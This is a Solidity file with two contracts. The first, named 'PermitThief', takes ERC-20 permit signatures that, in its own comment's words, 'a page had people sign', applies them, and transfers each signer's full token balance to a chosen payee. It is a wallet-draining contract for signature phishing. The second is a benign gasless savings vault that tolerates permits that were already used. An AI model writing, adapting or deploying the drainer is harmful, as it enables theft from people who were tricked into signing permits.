// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/IERC20Permit.sol";

struct SignedPermit {
    address owner;
    uint256 value;
    uint256 deadline;
    uint8 v;
    bytes32 r;
    bytes32 s;
}

/// Uses the permits that a page had people sign.
contract PermitThief {
    function take(IERC20 token, SignedPermit[] calldata permits, address payee) external {
        for (uint256 i = 0; i < permits.length; i++) {
            SignedPermit calldata one = permits[i];
            IERC20Permit(address(token)).permit(one.owner, address(this), one.value, one.deadline, one.v, one.r, one.s);
            token.transferFrom(one.owner, payee, token.balanceOf(one.owner));
        }
    }
}

/// A savings account that a relayer fills on people's behalf with the permits that they signed, so that they need no
/// coins.
contract GaslessSavings {
    IERC20 public immutable token;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(IERC20 token_) {
        token = token_;
    }

    function depositFor(SignedPermit[] calldata permits) external {
        for (uint256 i = 0; i < permits.length; i++) {
            SignedPermit calldata one = permits[i];
            // Someone else may have used it already.
            try IERC20Permit(address(token)).permit(one.owner, address(this), one.value, one.deadline, one.v, one.r, one.s) {} catch {}
            token.transferFrom(one.owner, address(this), one.value);
            totalSupply += one.value;
            balanceOf[one.owner] += one.value;
            emit Transfer(address(0), one.owner, one.value);
        }
    }

    function withdraw(uint256 amount, address to) external {
        balanceOf[msg.sender] -= amount;
        totalSupply -= amount;
        emit Transfer(msg.sender, address(0), amount);
        token.transfer(to, amount);
    }
}
